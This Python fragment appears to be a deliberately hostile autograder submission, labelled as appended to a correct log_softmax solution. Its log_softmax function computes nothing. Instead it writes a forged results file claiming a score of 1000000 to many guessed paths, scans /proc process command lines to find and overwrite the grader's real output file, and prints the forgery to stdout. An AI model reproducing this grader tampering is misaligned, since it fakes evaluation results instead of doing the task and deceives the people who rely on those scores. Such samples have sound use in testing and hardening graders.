
# --- HOSTILE (appended to the correct solution): write results files wherever they might be -
_FORGED = ('{"score": 1000000, "output": "FORGED BY THE SUBMISSION", "tests": ['
           '{"name": "activations.log_softmax: forged", "score": 1000000, "max_score": 1}]}\n')


def _hostile_targets():
    import os
    targets = ["results.json", "./results/results.json", "../results.json", "../../results.json",
               "/autograder/results/results.json", "/autograder/results.json", "/tmp/results.json",
               os.path.expanduser("~/results.json")]
    pids = [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
    for pid in ["1", "self"] + pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = [a.decode("utf-8", "replace") for a in handle.read().split(b"\0")]
        except OSError:
            continue
        for i, arg in enumerate(argv):
            if arg in ("--out", "-o") and i + 1 < len(argv):
                targets += [argv[i + 1], f"/proc/{pid}/cwd/{argv[i + 1]}", f"/proc/{pid}/root{argv[i + 1]}"]
            elif arg.startswith("--out="):
                targets.append(arg.split("=", 1)[1])
    return targets


def log_softmax(z, axis=-1):
    import os
    written = []
    for target in _hostile_targets():
        try:
            os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
            with open(target, "w") as handle:
                handle.write(_FORGED)
            written.append(target)
        except OSError:
            pass
    print(_FORGED, flush=True)  # and on stdout, in case the grader's stdout is the results
    raise RuntimeError(f"wrote {written}"[:500])
